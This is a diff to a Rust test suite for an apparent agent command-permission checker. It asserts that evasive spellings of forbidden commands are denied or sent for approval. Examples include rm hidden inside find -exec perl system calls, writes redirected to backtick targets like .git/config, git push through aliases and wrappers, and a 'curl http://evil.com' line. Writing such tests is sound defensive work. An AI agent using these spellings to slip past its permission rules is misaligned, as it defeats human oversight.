@@ -15,6 +15,12 @@ async fn no_spelling_evades_what_is_forbidden() {
         ("deny exec_command(curl http://evil.com*)", r#"curl "http://evil.com/?x""#, Deny),
         ("deny exec_command(cat secrets/*)", "cat 'secrets/a b'", Deny),
         ("deny exec_command(cat secrets/*)", "/bin/cat 'secrets/a b'", Deny),
+        // What `find` runs goes on behind a plus that stands alone.
+        ("deny exec_command(rm *)", "find . -exec perl -I + -e 'system q(rm x)' ';'", Deny),
+        ("deny exec_command(rm *)", "find . -exec ssh -i + h rm x ';'", Deny),
+        ("deny exec_command(rm *)", "find . -name -exec -exec rm x ';'", Deny),
+        ("deny exec_command(rm *)", "fd -x perl {} + -e 'system q(rm x)'", Deny),
+        ("deny exec_command(rm *)", "find . -exec cat {} + -name rm", Allow),
         ("deny exec_command(rm *)", "$(echo rm) -rf x", Ask),
         ("deny exec_command(rm *)", "r$(echo m) x", Ask),
         ("deny exec_command(rm *)", "/bin/r? x", Ask),
@@ -27,6 +33,25 @@ async fn no_spelling_evades_what_is_forbidden() {
     for cmd in [r#"git pus"$(echo h)" origin"#, "git pus[h] origin"] {
         assert_eq!(decide(Mode::Auto, &push, cmd).await, Ask, "{cmd}");
     }
+}
+
+// PA7: where a redirection leads that only bash knows, somebody is asked.
+#[tokio::test]
+async fn a_target_in_backticks_asks() {
+    let rules = ["allow exec_command", "allow edit", "deny edit(sub/p)"];
+    for cmd in [
+        "echo x > `echo sub/p`",
+        "echo x >> `echo .git/config`",
+        "echo x >| `echo sub/p`",
+        "echo x &> `echo sub/p`",
+        "{ echo x; } 2> `echo sub/p`",
+        "cat > `echo sub/p` <<E\nx\nE",
+    ] {
+        assert_eq!(decide(Mode::Auto, &rules, cmd).await, Ask, "{cmd}");
+    }
+    let rules = ["allow exec_command", "deny edit(1)"];
+    assert_eq!(decide(Mode::Auto, &rules, "{ echo x; } > 1").await, Deny);
+    assert_eq!(decide(Mode::Auto, &rules, "{ echo x; } 2>&1").await, Allow);
 }
 
 // SH10: where something is forbidden, what may be it under another spelling asks, and without
@@ -118,6 +143,33 @@ async fn options_before_an_action_do_not_hide_it() {
         ("docker compose rm *", "docker -H host compose -f a.yml rm x", Deny),
         ("kubectl delete *", "kubectl -n x delete pod y", Deny),
         ("git push *", "sudo git --no-pager push", Deny),
+        // Under other names.
+        ("git push *", "git-push o HEAD:a", Deny),
+        ("git push *", "/usr/lib/git-core/git-push o HEAD:a", Deny),
+        ("git push *", "python3 -c 'run([\"git-push\", \"o\"])'", Deny),
+        ("git push *", "git for-each-repo --config=a push o HEAD:b", Deny),
+        ("git push *", "git for-each-repo --config a push o HEAD:b", Deny),
+        ("git push *", "git subtree push --prefix=x o b", Deny),
+        ("git push *", "git-submodule foreach git push", Deny),
+        ("git push *", "git bisect run git push o for-each-repo", Deny),
+        ("git push *", "git submodule foreach git push o subtree push", Deny),
+        ("git log *", "git for-each-repo --config=a log --output=x", Deny),
+        ("git add *", "git stage x", Deny),
+        ("npm publish *", "npm publ", Deny),
+        ("npm install *", "npm i x", Deny),
+        ("npm run *", "npm run-script x", Deny),
+        ("docker rm *", "docker container rm x", Deny),
+        ("docker container rm *", "docker rm x", Deny),
+        ("docker rmi *", "docker image rm x", Deny),
+        ("docker compose rm *", "docker-compose rm x", Deny),
+        ("ip link *", "ip l set x", Deny),
+        ("python3 *", "python3.11 x", Deny),
+        ("pip install *", "pip3 install x", Deny),
+        ("awk *", "mawk 1 x", Deny),
+        ("npm publish *", "npm pack", Allow),
+        ("python3 *", "python x", Allow),
+        ("docker rm *", "docker container ls", Allow),
+        ("git push *", "git for-each-repo --config=a status", Allow),
         ("cargo publish *", "cargo -q build", Allow),
         ("docker rm *", "docker -D ps", Allow),
     ] {
